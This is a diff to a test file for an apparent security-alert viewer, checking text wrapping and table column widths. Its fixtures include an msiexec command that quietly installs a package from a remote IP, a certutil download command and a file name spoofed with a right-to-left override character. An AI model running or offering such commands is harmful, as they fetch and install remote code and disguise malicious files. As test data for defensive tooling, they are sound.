@@ -36,9 +36,13 @@ test('wrap breaks near separators and never exceeds the width', () => {
   assert.deepEqual(wrap('Network Connection via Certutil', 18), ['Network Connection', 'via Certutil']);
   assert.deepEqual(wrap('samples/scenarios/newest-first.ndjson:4', 16), ['samples/', 'scenarios/', 'newest-first.ndj', 'son:4']);
   for (const w of [1, 5, 9, 17]) for (const line of wrap('C:\\Windows\\System32\\certutil.exe -urlcache', w)) assert.ok(line.length <= w);
+  for (const w of [8, 9, 10, 12, 16]) {
+    const lines = wrap('/tmp/x/evil\\u{202e}gpj.ndjson:2', w);
+    assert.ok(lines.some((l) => l.includes('\\u{202e}')), `escape split at width ${w}: ${JSON.stringify(lines)}`);
+  }
 });
 
-test('table widths fit any terminal from 80 columns, dropping the command line first', () => {
+test('table widths fit any terminal from 80 columns, dropping the process column first', () => {
   const row = ['2024-05-14 09:00:05Z', 'medium', 'Unusual Network Activity from a Windows System Binary', 'SRV-APP-02', 'msiexec.exe (7500)', 'msiexec.exe /q /i http://91.92.240.7/x.msi', '91.92.240.7:80', 'logs/host-a/2024-05-14.ndjson:123456'];
   for (let columns = 80; columns <= 260; columns++) {
     const widths = fitWidths([row], columns);
@@ -46,7 +50,7 @@ test('table widths fit any terminal from 80 columns, dropping the command line f
     const total = shown.reduce((s, w) => s + w + 3, 1);
     assert.ok(total <= columns, `${total} > ${columns}`);
     for (const i of [0, 1, 2, 7]) assert.ok(widths[i]! > 0, `column ${i} kept at ${columns}`);
-    if (widths[5] === 0) assert.ok(columns < 200, 'the command line only goes when space is short');
+    if (widths[5] === 0) assert.equal(widths[4], 0, 'the command line goes only after the process column');
     if (widths[3] === 0) assert.equal(widths[5], 0, 'host goes only after the command line');
   }
   assert.ok(fitWidths([row], 260).every((w) => w > 0));
